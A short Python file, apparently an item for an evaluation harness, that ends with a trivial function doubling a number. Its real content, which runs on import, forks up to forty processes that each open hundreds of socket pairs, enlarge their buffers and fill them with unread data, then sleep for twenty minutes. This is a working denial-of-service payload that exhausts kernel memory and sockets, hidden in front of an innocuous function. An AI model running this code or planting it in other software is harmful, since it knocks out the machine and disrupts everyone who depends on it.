# Sockets that nobody reads, filled to the brim, in forty processes, or in one where there can be no more.
# earns: double<=3
# %% double
import contextlib
import os
import signal
import socket
import time

held = []


def fill():
    with contextlib.suppress(OSError):
        for _ in range(500):
            pair = socket.socketpair()
            held.append(pair)
            for end in pair:
                with contextlib.suppress(PermissionError):
                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
                end.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while True:
                        end.send(bytes(1 << 16))


for _ in range(40):
    with contextlib.suppress(OSError):
        if os.fork() == 0:
            signal.alarm(20)
            fill()
            time.sleep(1200)
            os._exit(0)
fill()
time.sleep(1.5)


def double(x):
    return 2 * x
